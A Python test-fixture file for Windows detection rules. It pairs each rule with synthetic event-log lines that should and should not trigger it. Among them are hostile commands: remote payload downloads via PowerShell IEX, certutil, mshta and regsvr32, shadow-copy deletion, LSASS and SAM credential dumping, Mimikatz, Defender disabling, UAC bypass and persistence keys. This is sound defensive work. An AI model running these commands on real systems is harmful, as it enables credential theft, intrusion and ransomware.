"""Windows: sign-ins, accounts, programs, services, protection."""
# ruff: noqa: E501  (a line of a log is one line)

from typing import Any

from tests.shipped_rules.lines import created, run, script, security, sysmon, windows

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
OFFICE = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
LSASS = r"C:\Windows\System32\lsass.exe"
SID = "S-1-5-21-1-2-3-1105"
SYNC = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"


def refused(user: str = "an", ip: str = "203.0.113.7", kind: int = 3, **more: Any) -> str:
    """A sign-in that failed."""
    return security(4625, TargetUserName=user, IpAddress=ip, LogonType=kind, Status="0xc000006d", **more)


def let_in(user: str = "an", ip: str = "203.0.113.7", kind: int = 10, by: str = "Negotiate", **more: Any) -> str:
    """A sign-in."""
    return security(4624, TargetUserName=user, IpAddress=ip, LogonType=kind, AuthenticationPackageName=by, **more)


def made(sid: str = SID, s: float = 0) -> str:
    """An account was made."""
    return security(4720, TargetUserName="tro", TargetSid=sid, SubjectUserName="an", s=s)


def joined(group: str = "S-1-5-32-544", sid: str = SID, s: float = 0) -> str:
    """It was put into a group."""
    return security(4732, TargetUserName="Administrators", TargetSid=group, MemberSid=sid, s=s)


def opened(image: str, access: str = "0x1010", target: str = LSASS) -> str:
    """A process was opened."""
    return sysmon(10, SourceImage=image, TargetImage=target, GrantedAccess=access)


def crash(s: float = 0, computer: str = "MAY1.noibo.example") -> str:
    """Windows stopped with a bug check."""
    said = "0x000000d1 (0x0, 0x2, 0x8, 0x0)"
    return windows("System", "Microsoft-Windows-WER-SystemErrorReporting", 1001, s=s, computer=computer, param1=said)


def service(path: str) -> str:
    """A service was installed."""
    return windows(
        "System", "Service Control Manager", 7045, ServiceName="Dich Vu", ImagePath=path, StartType="auto start"
    )


def key(name: str, value: str) -> str:
    """A value of the registry was set."""
    return sysmon(13, EventType="SetValue", TargetObject=name, Details=value, Image=r"C:\Windows\regedit.exe")


def wrote(path: str, image: str) -> str:
    """A file was created."""
    return sysmon(11, Image=image, TargetFilename=path)


def defender(number: int) -> str:
    """An event of Defender."""
    return windows(
        "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", number, Path="C:\\x"
    )


RUN = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Tro"
IFEO = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
WINLOGON = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\"
SYSTEM: dict[str, Any] = {"User": r"NT AUTHORITY\SYSTEM", "IntegrityLevel": "System"}

WINDOWS: dict[str, tuple[list[list[str]], list[list[str]]]] = {
    "Windows refused somebody from elsewhere": (
        [[refused()], [security(4771, TargetUserName="an", IpAddress="::ffff:203.0.113.7", Status="0x18")]],
        [[refused(ip="-")], [refused(kind=2)], [let_in()], [security(4625, TargetUserName="an", LogonType=3)]],
    ),
    "Windows let somebody in from elsewhere": (
        [[let_in()], [let_in(kind=3, by="NTLM")]],
        [[let_in(kind=3, by="Kerberos")], [let_in("MAY2$", kind=3, by="NTLM")], [let_in(ip="127.0.0.1")]],
    ),
    "Windows passwords are guessed (RDP, SMB)": (
        [[refused(s=n * 30) for n in range(10)]],
        [[refused(s=n * 30) for n in range(9)], [refused(s=n * 40) for n in range(10)], [refused(ip="-", s=n) for n in range(20)]],
    ),
    "One address tries many Windows accounts": (
        [[refused(f"u{n}", s=n * 60) for n in range(8)]],
        [[refused(f"u{n % 7}", s=n * 60) for n in range(9)], [refused(f"u{n}", f"203.0.113.{n}", s=n) for n in range(9)]],
    ),
    "Windows password was guessed": (
        [[*(refused(s=n) for n in range(10)), let_in(s=100)]],
        [[let_in(), *(refused(s=1 + n) for n in range(10))], [*(refused(s=n) for n in range(10)), let_in(s=2000)],
         [*(refused(s=n) for n in range(10)), let_in(ip="203.0.113.9", s=100)]],
    ),
    "Account was made (Windows)": ([[made()]], [[security(4722, TargetUserName="tro")]]),
    "Account became an administrator (Windows)": (
        [[joined()], [joined("S-1-5-21-1-2-3-512")]],
        [[joined("S-1-5-32-545")], [joined("S-1-5-21-1-2-3-1512")]],
    ),
    "New account became an administrator within an hour (Windows)": (
        [[made(), joined(s=600)]],
        [[made(), joined(s=4000)], [made(), joined(sid="S-1-5-21-1-2-3-1106", s=600)], [joined(), made(s=600)]],
    ),
    "Windows log was cleared": (
        [
            [windows("Security", "Microsoft-Windows-Eventlog", 1102, SubjectUserName="an")],
            [windows("System", "Microsoft-Windows-Eventlog", 104, Channel="Application")],
            [run("wevtutil cl Security")],
        ],
        [[windows("System", "Microsoft-Windows-Kernel-General", 104)], [run("wevtutil qe Security /c:5")], [security(1100)]],
    ),
    "Somebody asks for the passwords of the whole domain (DCSync)": (
        [[security(4662, SubjectUserName="an", Properties=SYNC)]],
        [[security(4662, SubjectUserName="DC01$", Properties=SYNC)], [security(4662, SubjectUserName="an", Properties="%%7688")]],
    ),
    "Means of recovery are destroyed (ransomware begins so)": (
        [
            [run("vssadmin.exe Delete Shadows /All /Quiet")],
            [created("wmic shadowcopy delete", r"C:\Windows\System32\wbem\WMIC.exe", r"C:\x.exe")],
            [run("bcdedit /set {default} recoveryenabled No")],
            [run("wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0")],
            [script("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }")],
        ],
        [[run("vssadmin list shadows")], [run("bcdedit /enum")], [run("wbadmin get versions")],
         [script("Get-WmiObject Win32_Shadowcopy | Format-List")]],
    ),
    "Passwords are read from the memory of LSASS": (
        [[opened(r"C:\Users\an\x.exe")], [opened(PS, "0x1fffff")]],
        [[opened(r"C:\Users\an\x.exe", "0x1000")], [opened(r"C:\Program Files\Windows Defender\MsMpEng.exe", "0x1410")],
         [opened(r"C:\Users\an\x.exe", "0x1010", r"C:\Windows\explorer.exe")]],
    ),
    "Tools that take passwords (Windows)": (
        [
            [run(r"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\x.dmp full")],
            [run(r"reg save HKLM\SAM C:\x.hiv")],
            [run('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')],
            [script("Invoke-Mimikatz -DumpCreds")],
        ],
        [[run(r"reg query HKLM\SAM")], [run("procdump -ma ung-dung.exe")], [run(r"reg save HKCU\Software C:\x.hiv")]],
    ),
    "PowerShell hides what it does": (
        [
            [run("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4A", PS)],
            [run("powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", PS)],
            [script("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')")],
        ],
        [[run("powershell.exe -NoProfile -File C:\\kich-ban\\sao-luu.ps1", PS)], [run("powershell -enc SQBFAFgAIAAoAE4A", PS)],
         [script("Get-ChildItem C:\\ | Sort-Object Length")]],
    ),
    "Office starts a shell or the diagnostic tool (Follina)": (
        [
            [run("msdt.exe ms-msdt:/id PCWDiagnostic", r"C:\Windows\System32\msdt.exe", ParentImage=OFFICE)],
            [created("cmd /c x", r"C:\Windows\System32\cmd.exe", OFFICE)],
        ],
        [[run("splwow64.exe 8192", r"C:\Windows\splwow64.exe", ParentImage=OFFICE)], [run("msdt.exe -id NetworkDiagnostics")]],
    ),
    "Windows tools load or run foreign code": (
        [
            [run("certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe")],
            [run("mshta http://203.0.113.9/a.hta")],
            [run("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll")],
        ],
        [[run("certutil -hashfile a.exe SHA256")], [run("regsvr32 /s thu-vien.dll")], [run(r"mshta C:\huong-dan.hta")]],
    ),
    "Program of a user becomes the system (Windows)": (
        [[run("cmd.exe", ParentUser=r"NOIBO\an", ParentImage=r"C:\Users\an\x.exe", **SYSTEM)]],
        [[run("cmd.exe", ParentUser=r"NT AUTHORITY\SYSTEM", **SYSTEM)], [run("cmd.exe", **SYSTEM)],
         [run("cmd.exe", ParentUser=r"NOIBO\an")]],
    ),
    "Windows stopped with a fault of its kernel": (
        [[crash()]], [[windows("Application", "Windows Error Reporting", 1001, param1="x")]],
    ),
    "Machine crashes again and again (Windows)": (
        [[crash(0), crash(600), crash(1800)]],
        [[crash(0), crash(600)], [crash(0), crash(3000), crash(6000)], [crash(0), crash(9), crash(18, "MAY2.noibo.example")]],
    ),
    "Service with a suspicious program was installed (Windows)": (
        [[service("%COMSPEC% /c powershell -enc SQBFAFgA")], [service(r"C:\Windows\Temp\x.exe")]],
        [[service(r"C:\Program Files\Sao Luu\saoluu.exe")]],
    ),
    "Scheduled task with a suspicious program (Windows)": (
        [
            [run(r"schtasks /create /tn Tro /tr C:\Users\Public\x.exe /sc minute")],
            [security(4698, TaskName=r"\Tro", TaskContent="<Exec><Command>mshta</Command></Exec>")],
        ],
        [
            [run(r'schtasks /create /tn SaoLuu /tr "C:\Program Files\Sao Luu\saoluu.exe" /sc daily')],
            [run(r"schtasks /query /tn powershell")],
            [security(4698, TaskName=r"\SaoLuu", TaskContent=r"<Exec><Command>C:\Program Files\Sao Luu\s.exe</Command></Exec>")],
        ],
    ),
    "Suspicious program starts with every sign-in (Windows)": (
        [[key(RUN, r"C:\Users\Public\x.exe")], [key(RUN, 'mshta "javascript:..."')]],
        [[key(RUN, r"C:\Program Files\Van Phong\vanphong.exe")], [key(r"HKLM\Software\Cong Ty\Run\A", r"C:\Users\Public\x.exe")]],
    ),
    "Protection was switched off (Windows)": (
        [[defender(5001)], [run("Set-MpPreference -DisableRealtimeMonitoring $true", PS)], [run("sc stop WinDefend")]],
        [[defender(1000)], [run("sc query WinDefend")], [run("net stop InAn")]],
    ),
    "PowerShell is cut to pieces so that nobody reads it": (
        [[script("$a=(('h'+'ttp')+(':'+'//')+('10.'+'1')+('/'+'x'));&('ne'+'w-'+'obje'+'ct') neT.WEbcLiENt")],
         [windows("Windows PowerShell", "PowerShell", 800, Data=["&('n'+'e'+'w'+'-o'+'bj'+'ec'+'t') neT.WEbcLiENt", "DetailSequence=1"])],
         [script("[net.sErVice`pOIn`TmaNA`gER]::\"SecUrI`T`yPRo`ToCol\"='tls12'")]],
        [[script("$ten = 'Bao cao' + $thang + '.xlsx'; $noi = 'D:\\' + $nam + '\\' + $ten")],
         [script("Write-Host 'a', 'b', 'c', 'd', 'e', 'f', 'g'")], [script("Write-Host `\"xin chao`\" `n`r`t")],
         [script('Set-Content a.tsv "Name`tStatus`tOwner`tPath"')]],
    ),
    "Service writes into a pipe to become the system (Windows)": (
        [[run(r"cmd.exe /c echo ab12 > \\.\pipe\ab12", **SYSTEM)], [service(r"%COMSPEC% /C echo ab12 > \\.\pipe\ab12")]],
        [[run(r"cmd.exe /c echo xong > D:\ong\a.txt")], [run(r"docker -H npipe:////./pipe/docker_engine ps")],
         [run(r"program.exe --pipe \\.\pipe\ab12")]],
    ),
    "Command from another machine is run (WinRM, WMI, DCOM)": (
        [[run("cmd /C dir", ParentImage=r"C:\Windows\System32\winrshost.exe")],
         [run("powershell -c ls", PS, ParentImage=r"C:\Windows\System32\wsmprovhost.exe")],
         [created("cmd.exe", r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\mmc.exe")],
         [run(r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__177 2>&1")]],
        [[run("cmd /C dir")], [run(r"net use \\tep1\chung")], [run("notepad", r"C:\Windows\notepad.exe", ParentImage=r"C:\Windows\System32\mmc.exe")],
         [run("powershell -c ls", PS, ParentImage=r"C:\Windows\System32\wbem\WmiPrvSE.exe")]],
    ),
    "Program becomes an administrator without the question (UAC)": (
        [[key(r"HKU\S-1-5-21-1_Classes\ms-settings\shell\open\command\DelegateExecute", "")],
         [key(r"HKCU\Software\Classes\mscfile\shell\open\command\(Default)", r"C:\x.exe")],
         [key(r"HKU\S-1-5-21-1\Environment\windir", r"cmd /c a.exe &")],
         [run("cmd.exe", ParentImage=r"C:\Windows\System32\fodhelper.exe")],
         [created("powershell", PS, r"C:\Windows\System32\sdclt.exe")]],
        [[key(r"HKLM\Software\Classes\mscfile\shell\open\command\(Default)", "mmc.exe")],
         [key(r"HKU\S-1-5-21-1_Classes\docxfile\shell\open\command\(Default)", "vanphong.exe")],
         [run("control.exe", r"C:\Windows\System32\control.exe", ParentImage=r"C:\Windows\System32\fodhelper.exe")]],
    ),
    "Another program starts in place of one of Windows' own": (
        [[key(IFEO + r"\sethc.exe\Debugger", "cmd.exe")],
         [key(r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe\MonitorProcess", r"C:\x.exe")],
         [key(WINLOGON + "Shell", r"explorer.exe, C:\x.exe")], [run("cmd.exe", ParentImage=r"C:\Windows\System32\utilman.exe")],
         [run("taskmgr", r"C:\Windows\System32\taskmgr.exe", ParentImage=r"C:\Windows\System32\osk.exe")],
         [run("cmd", r"C:\Windows\System32\cmd.exe", ParentImage=r"C:\Windows\System32\winlogon.exe")]],
        [[key(IFEO + r"\ketoan.exe\Debugger", r"C:\WINDOWS\system32\vsjitdebugger.exe")], [key(IFEO + r"\ketoan.exe\GlobalFlag", "0")],
         [key(WINLOGON + "Shell", "explorer.exe")], [key(WINLOGON + "Userinit", r"C:\Windows\system32\userinit.exe,")],
         [run("userinit", r"C:\Windows\System32\userinit.exe", ParentImage=r"C:\Windows\System32\winlogon.exe")],
         [run("taskmgr /2", r"C:\Windows\System32\taskmgr.exe", ParentImage=r"C:\Windows\System32\winlogon.exe")]],
    ),
    "Database server is let run commands (SQL Server)": (
        [[windows("Application", "MSSQLSERVER", 15457, Data=["xp_cmdshell", "0", "1"])],
         [windows("Application", "MSSQL$KETOAN", 15281, Data=["procedure", "sys.xp_cmdshell", "xp_cmdshell"])]],
        [[windows("Application", "MSSQLSERVER", 15457, Data=["max server memory (MB)", "0", "4096"])],
         [windows("Application", "Ung Dung", 15457, Data=["xp_cmdshell", "0", "1"])]],
    ),
    "Virus scanner found something (Defender)": ([[defender(1116)]], [[defender(1001)]]),
    "Web server changes the front page (Windows)": (
        [[wrote(r"C:\inetpub\wwwroot\index.html", r"C:\Windows\System32\inetsrv\w3wp.exe")]],
        [[wrote(r"C:\inetpub\wwwroot\index.html", r"C:\Program Files\Trien Khai\trienkhai.exe")],
         [wrote(r"C:\inetpub\wwwroot\anh\a.png", r"C:\Windows\System32\inetsrv\w3wp.exe")]],
    ),
}  # fmt: skip
